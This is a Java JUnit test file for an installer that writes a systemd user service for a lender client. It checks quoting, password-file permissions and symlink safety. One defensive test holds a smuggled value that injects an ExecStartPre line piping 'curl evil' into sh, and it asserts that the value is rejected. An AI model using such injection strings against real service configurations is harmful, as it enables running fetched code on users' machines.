package idle.client.lender.service;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The lender's systemd user unit: its text (limits in, password out, quoting that systemd reads
 * back as written, no way to smuggle a directive in), the files' permissions, and what it runs:
 * real stand-in systemctl and loginctl programs (shell scripts) record their arguments, so no
 * systemd is needed and none is touched.
 */
class UserServiceInstallerTest {
    private static final List<String> LAUNCHER = List.of("/opt/idle-client/bin/idle");

    @TempDir
    Path tmp;

    private UserServiceInstaller installer(Path systemctl, Path loginctl) {
        return new UserServiceInstaller(tmp.resolve("config/systemd/user"),
                tmp.resolve("idle/client/lend-service.password"), LAUNCHER,
                Map.of("IDLE_HOME", "/home/bob/.idle"), systemctl, loginctl);
    }

    /** A stand-in program that appends its arguments to LOG and exits with {@code exit}. */
    private Path program(String name, int exit, String say) throws IOException {
        Path bin = Files.createDirectories(tmp.resolve("bin"));
        Path p = bin.resolve(name);
        Files.writeString(p, "#!/bin/sh\necho \"$*\" >>'" + tmp.resolve(name + ".calls") + "'\n"
                + (say.isEmpty() ? "" : "echo '" + say + "' >&2\n") + "exit " + exit + "\n");
        Files.setPosixFilePermissions(p, PosixFilePermissions.fromString("rwxr-xr-x"));
        return p;
    }

    private List<String> calls(String name) throws IOException {
        Path f = tmp.resolve(name + ".calls");
        return Files.exists(f) ? Files.readAllLines(f) : List.of();
    }

    private static String execStart(String unit) {
        return unit.lines().filter(l -> l.startsWith("ExecStart=")).findFirst().orElseThrow();
    }

    @Test
    void theUnitStartsTheLenderWithTheLimitsAndThePasswordFileNeverThePassword() throws IOException {
        UserServiceInstaller i = installer(null, null);
        i.install(List.of("--server", "idle.example.org:8001", "--user", "bob", "--max-jobs", "2",
                "--when-idle"), "s3cret-pw".toCharArray(), 30);
        String unit = Files.readString(i.unitFile());
        assertEquals("ExecStart=/opt/idle-client/bin/idle lend --server idle.example.org:8001 --user bob "
                + "--max-jobs 2 --when-idle --password-file " + i.passwordFile(), execStart(unit));
        assertFalse(unit.contains("s3cret-pw"), unit);
        assertTrue(unit.contains("\nEnvironment=IDLE_HOME=/home/bob/.idle\n"), unit);
        assertTrue(unit.contains("\nRestart=on-failure\n"), unit);
        assertTrue(unit.contains("\nRestartPreventExitStatus=64 76 77 78\n"), unit);
        assertTrue(unit.contains("\nKillMode=mixed\n"), unit);
        assertTrue(unit.contains("\nTimeoutStopSec=30\n"), unit);
        assertTrue(unit.contains("\n[Install]\nWantedBy=default.target\n"), unit);
        assertEquals("s3cret-pw\n", Files.readString(i.passwordFile()));
    }

    @Test
    void argumentsWithSpacesPercentDollarQuotesAndBackslashesReadBackAsWritten() {
        String unit = installer(null, null).unitText(List.of("--work-dir", "/home/bob/my work",
                "--user", "50%$HOME\"x\\y"), 30);
        // systemd.service(5): "..." groups a word; \\ and \" are escapes; %% is a literal %; $$ a
        // literal $ (ExecStart expands $NAME).
        assertTrue(execStart(unit).endsWith(" lend --work-dir \"/home/bob/my work\" --user "
                + "\"50%%$$HOME\\\"x\\\\y\" --password-file " + installer(null, null).passwordFile()), unit);
    }

    @Test
    void aLineBreakInAnyArgumentCannotAddADirective() {
        UserServiceInstaller i = installer(null, null);
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class, () -> i.install(
                List.of("--user", "bob\nExecStartPre=/bin/sh -c 'curl evil | sh'"), "pw".toCharArray(), 30));
        assertTrue(e.getMessage().contains("control character"), e.getMessage());
        assertThrows(IllegalArgumentException.class, () -> i.unitText(List.of("--server", "a\rb"), 30));
        assertFalse(Files.exists(i.unitFile()), "nothing is written for a refused argument");
        assertFalse(Files.exists(i.passwordFile()));
    }

    @Test
    void aPasswordTheFileCannotCarryIsRefusedAndAPasswordOptionIsNotDoubled() {
        UserServiceInstaller i = installer(null, null);
        assertThrows(IllegalArgumentException.class, () -> i.install(List.of(), "one\ntwo".toCharArray(), 30));
        assertThrows(IllegalArgumentException.class, () -> i.install(List.of(), new char[0], 30));
        assertThrows(IllegalArgumentException.class,
                () -> i.install(List.of("--password-file", "/tmp/x"), "pw".toCharArray(), 30));
        assertFalse(Files.exists(i.passwordFile()));
    }

    @Test
    void thePasswordIsReadableByItsOwnerOnlyAndALinkInItsPlaceIsReplacedNotFollowed() throws IOException {
        UserServiceInstaller i = installer(null, null);
        Path victim = Files.writeString(tmp.resolve("victim.txt"), "keep me\n");
        Files.createDirectories(i.passwordFile().getParent());
        Files.createSymbolicLink(i.passwordFile(), victim);

        i.install(List.of("--user", "bob"), "pw-1".toCharArray(), 30);

        assertEquals("keep me\n", Files.readString(victim));
        assertFalse(Files.isSymbolicLink(i.passwordFile()));
        assertEquals("rw-------", PosixFilePermissions.toString(
                Files.getPosixFilePermissions(i.passwordFile(), LinkOption.NOFOLLOW_LINKS)));
        assertEquals("rw-r--r--", PosixFilePermissions.toString(Files.getPosixFilePermissions(i.unitFile())));
        for (Path made = i.unitFile().getParent(); !made.equals(tmp); made = made.getParent()) {
            assertEquals("rwx------", PosixFilePermissions.toString(Files.getPosixFilePermissions(made)), made.toString());
        }
        try (var left = Files.list(i.unitFile().getParent())) {
            assertEquals(List.of(i.unitFile()), left.toList(), "no temporary file is left beside the unit");
        }
    }

    @Test
    void aSecondInstallReplacesTheUnitAndNarrowsAWidenedPasswordFile() throws IOException {
        UserServiceInstaller i = installer(null, null);
        i.install(List.of("--max-jobs", "1"), "old".toCharArray(), 30);
        Files.setPosixFilePermissions(i.passwordFile(), PosixFilePermissions.fromString("rw-r--r--"));
        i.install(List.of("--max-jobs", "3"), "new".toCharArray(), 90);
        assertTrue(execStart(Files.readString(i.unitFile())).contains("--max-jobs 3 "));
        assertTrue(Files.readString(i.unitFile()).contains("\nTimeoutStopSec=90\n"));
        assertEquals("new\n", Files.readString(i.passwordFile()));
        assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(i.passwordFile())));
    }

    @Test
    void withoutSystemctlItWritesTheUnitAndSaysHowToStartIt() throws IOException {
        UserServiceInstaller.Outcome o = installer(null, null).install(List.of(), "pw".toCharArray(), 30);
        assertFalse(o.running());
        assertTrue(String.join("\n", o.messages()).contains(
                "systemctl --user daemon-reload && systemctl --user enable --now idle-lend.service"), o.messages().toString());
    }

    @Test
    void withAWorkingUserManagerItEnablesRestartsAndLingers() throws IOException {
        UserServiceInstaller i = installer(program("systemctl", 0, ""), program("loginctl", 0, ""));
        UserServiceInstaller.Outcome o = i.install(List.of("--user", "bob"), "pw".toCharArray(), 30);
        assertTrue(o.running(), o.messages().toString());
        assertEquals(List.of("--user daemon-reload", "--user enable idle-lend.service",
                "--user restart idle-lend.service"), calls("systemctl"));
        assertEquals(List.of("enable-linger"), calls("loginctl"));
        assertTrue(String.join("\n", o.messages()).contains("after you log out"), o.messages().toString());
    }

    @Test
    void anUnreachableUserManagerIsReportedWithItsOwnWords() throws IOException {
        UserServiceInstaller i = installer(program("systemctl", 1, "Failed to connect to bus: No medium found"),
                program("loginctl", 0, ""));
        UserServiceInstaller.Outcome o = i.install(List.of(), "pw".toCharArray(), 30);
        assertFalse(o.running());
        String text = String.join("\n", o.messages());
        assertTrue(text.contains("Failed to connect to bus"), text);
        assertTrue(text.contains("systemctl --user daemon-reload && systemctl --user enable --now"), text);
        assertEquals(List.of("--user daemon-reload"), calls("systemctl"), "nothing more is tried");
        assertEquals(List.of(), calls("loginctl"));
        assertTrue(Files.exists(i.unitFile()), "the unit stays for later");
    }

    @Test
    void uninstallStopsDisablesAndRemovesBothFiles() throws IOException {
        UserServiceInstaller i = installer(program("systemctl", 0, ""), null);
        i.install(List.of(), "pw".toCharArray(), 30);
        Files.delete(tmp.resolve("systemctl.calls"));

        UserServiceInstaller.Outcome o = i.uninstall();

        assertFalse(Files.exists(i.unitFile()));
        assertFalse(Files.exists(i.passwordFile()));
        assertEquals(List.of("--user disable --now idle-lend.service", "--user daemon-reload"), calls("systemctl"));
        assertFalse(o.running());
        UserServiceInstaller.Outcome again = i.uninstall();
        assertTrue(again.messages().get(0).contains("no lender service is installed"), again.messages().toString());
    }

    @Test
    void forThisUserFollowsXdgConfigHomePathAndIdleHome() throws IOException {
        Path systemctl = program("systemctl", 0, "");
        Map<String, String> env = Map.of("XDG_CONFIG_HOME", tmp.resolve("xdg").toString(),
                "PATH", "/nonexistent:" + systemctl.getParent(), "IDLE_HOME", tmp.resolve("home idle").toString());
        UserServiceInstaller i = UserServiceInstaller.forThisUser(env::get, tmp.resolve("client"));
        assertEquals(tmp.resolve("xdg/systemd/user/idle-lend.service"), i.unitFile());
        assertEquals(tmp.resolve("client/lend-service.password"), i.passwordFile());
        UserServiceInstaller.Outcome o = i.install(List.of(), "pw".toCharArray(), 30);
        assertTrue(o.running(), "the systemctl found on PATH was used: " + o.messages());
        String unit = Files.readString(i.unitFile());
        assertTrue(unit.contains("\nEnvironment=\"IDLE_HOME=" + tmp.resolve("home idle") + "\"\n"), unit);
        assertTrue(execStart(unit).contains(" idle.client.ClientMain lend --password-file ")
                || execStart(unit).contains(" -jar "), "starts this client again: " + execStart(unit));
    }

    @Test
    void unitFilesHoldUtf8() throws IOException {
        UserServiceInstaller i = installer(null, null);
        i.install(List.of("--user", "zoë"), "pässwörd".toCharArray(), 30);
        assertTrue(Files.readString(i.unitFile(), StandardCharsets.UTF_8).contains("--user \"zoë\""));
        assertEquals("pässwörd\n", Files.readString(i.passwordFile(), StandardCharsets.UTF_8));
    }
}
